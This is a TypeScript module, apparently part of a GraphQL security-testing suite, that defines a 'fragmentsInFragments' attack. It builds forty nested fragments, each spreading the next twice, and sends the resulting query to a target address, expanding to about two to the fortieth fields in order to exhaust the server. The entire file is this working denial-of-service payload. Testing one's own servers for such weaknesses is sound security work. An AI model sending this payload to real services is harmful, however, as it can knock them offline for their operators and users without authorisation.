import type { Attack } from '../attack';
import { sendOperation } from '../send-operation';

const DEEP = 40;
const BOMB = Array.from({ length: DEEP }, (_, at) => `fragment f${at} on Query { ...f${at + 1} ...f${at + 1} }`).join(' ');

/** Fragments that each stand twice in the one before: two to the fortieth fields. */
export const fragmentsInFragments: Attack = (address) =>
  sendOperation(address, `{ ...f0 } ${BOMB} fragment f${DEEP} on Query { platform { demo } }`);
